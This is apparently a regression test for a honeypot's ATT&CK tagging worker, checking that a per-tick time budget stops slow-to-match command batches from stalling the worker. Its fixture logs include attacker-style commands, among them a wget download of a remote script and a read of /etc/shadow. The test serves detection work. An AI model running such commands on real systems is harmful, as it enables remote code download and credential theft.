// Regression (found by test/fuzz): a batch of commands that are slow to match (each one bounded,
// ~50-100 ms over every rule, but 5,000 of them in one synchronous tick) blocked the ttp worker
// for minutes: the watchdog killed it, the restart took the same batch, forever, and meanwhile it
// held SQLite's write lock. A tick now stops matching when its time budget runs out (at least one
// line per tick) and the rest waits for the next tick; the worker keeps draining.
import assert from 'node:assert/strict'
import {mkdtempSync, rmSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {describe, it, type TestContext} from 'node:test'

import type {Kysely} from 'kysely'

import type {Database, NewLog, TtpTagRow} from '../../../src/db/schema.js'

import {migrateToLatest, withDatabase} from '../../../src/db/index.js'
import {Matcher} from '../../../src/ttp/matcher.js'
import {loadRules} from '../../../src/ttp/rule-loader.js'
import {DEFAULT_TAG_BUDGET_MS, ttpTick} from '../../../src/workers/ttp/tick.js'
import type {DatabaseKind} from '../../helpers/databases.js'
import {DATABASE_KINDS, migratedDatabase, skipReason} from '../../helpers/databases.js'
import {runDecnet} from '../../helpers/decnet-cli.js'
import {commandLog, failedLogin, insertLogs, readTags as readTagsUntyped} from '../../helpers/ttp-logs.js'

const readTags = async (db: Kysely<Database>): Promise<TtpTagRow[]> => (await readTagsUntyped(db))

const matcher = new Matcher((await loadRules()).rules)

/** A command every rule with `{{cmd}}` starts on hundreds of times (`$(` is a command position), then one real hit. */
const SLOW_COMMAND = `${'fetch$('.repeat(570)};uname -a`

async function setup(t: TestContext, kind: DatabaseKind, rows: readonly NewLog[]): Promise<Kysely<Database>> {
  const {db} = await migratedDatabase(kind, t)
  await insertLogs(db, rows)
  return db
}

const rows = (): NewLog[] => [
  commandLog('203.0.113.7', 0, 'uname -a; wget http://198.51.100.9/x.sh'),
  ...Array.from({length: 6}, (_, i) => failedLogin('203.0.113.8', 1 + i / 10)),
  commandLog('203.0.113.9', 2, SLOW_COMMAND),
  commandLog('203.0.113.9', 3, 'cat /etc/shadow'),
]

for (const kind of DATABASE_KINDS) {
  describe(`ttp tick time budget (${kind})`, {skip: skipReason(kind)}, () => {
    it('cuts a batch when the budget runs out, at least one line per tick, and ends with the same tags as one whole tick', async (t) => {
      const whole = await setup(t, kind, rows())
      const once = await ttpTick(whole, {matcher})
      assert.deepEqual(once, {cursor: 9, lines: 9, tags: once.tags}, 'no budget cut with the default budget')
      const expected = (await readTags(whole)).map((tag) => tag.id).sort()

      const cut = await setup(t, kind, rows())
      const ticks = []
      for (;;) {
        const tick = await ttpTick(cut, {budgetMs: 0, matcher})
        ticks.push(tick)
        if (!tick.cut) break
      }

      assert.deepEqual(ticks.map((tick) => [tick.lines, tick.cursor, tick.cut ?? false]), [
        ...Array.from({length: 8}, (_, i) => [1, i + 1, true]),
        [1, 9, false],
      ])
      assert.deepEqual((await readTags(cut)).map((tag) => tag.id).sort(), expected, 'the same tags, brute force included')
      assert.ok(expected.length >= 5, JSON.stringify(expected))
    })
  })
}

/** How long matching SLOW_COMMAND takes in this process now: the fastest of `runs`, and their median. */
function slowCommandMs(runs = 5): {fastest: number; median: number} {
  const times = Array.from({length: runs}, () => {
    const start = performance.now()
    matcher.match('command', SLOW_COMMAND)
    return performance.now() - start
  }).sort((a, b) => a - b)
  return {fastest: times[0], median: times[Math.floor(runs / 2)]}
}

describe('the ttp worker over a batch of slow commands', () => {
  // The watchdog and the batch are set from what a slow command costs on this machine, now, rather than fixed (a fixed
  // 2 s watchdog killed a healthy worker once under load 9): a healthy tick blocks its worker for the tag budget (wall
  // time) plus one more line and the tick's reads and writes, so the watchdog allows the budget plus ten lines at the
  // speed measured now, and at least 3 s; the batch is long enough that tagging it in one go (the regression) would
  // block the worker for twice the watchdog even at the fastest speed measured, and at least 150 lines.
  const cost = slowCommandMs()
  const watchdogMs = Math.ceil(Math.max(3000, DEFAULT_TAG_BUDGET_MS + 10 * cost.median))
  const count = Math.max(150, Math.ceil((2 * watchdogMs) / cost.fastest))

  it(`keeps its heartbeat: drains the batch under a ${watchdogMs} ms watchdog and tags every line (--once)`, async (t) => {
    const dir = mkdtempSync(join(tmpdir(), 'decnet-ttp-budget-'))
    t.after(() => rmSync(dir, {force: true, recursive: true}))
    const url = `sqlite:${join(dir, 'decnet.sqlite')}`
    await withDatabase(url, async (db) => {
      await migrateToLatest(db)
      await insertLogs(db, Array.from({length: count}, (_, i) => commandLog(`203.0.113.${(i % 200) + 1}`, i / 60, SLOW_COMMAND)))
    })
    const env = {DECNET_DATA_DIR: dir, DECNET_RUNTIME_DIR: join(dir, 'run')}
    const run = await runDecnet(t, ['fleet', 'heavy', '--once', '--allow-root', '--watchdog', String(watchdogMs / 1000), '--db', url], {env, timeoutMs: 300_000})
    const output = run.stdout + run.stderr
    assert.doesNotMatch(output, /hung: no heartbeat/)
    assert.equal(run.code, 0, output)
    assert.match(output, new RegExp(`ttp \\| tagged ${count} lines: \\d+ ATT&CK tags \\(cursor ${count}\\)`))
    const tagged = await withDatabase(url, async (db) =>
      db.selectFrom('ttp_tags').select('log_id').distinct().where('rule_id', '=', 'discovery.system-info').execute(),
    )
    assert.equal(tagged.length, count)
  })
})
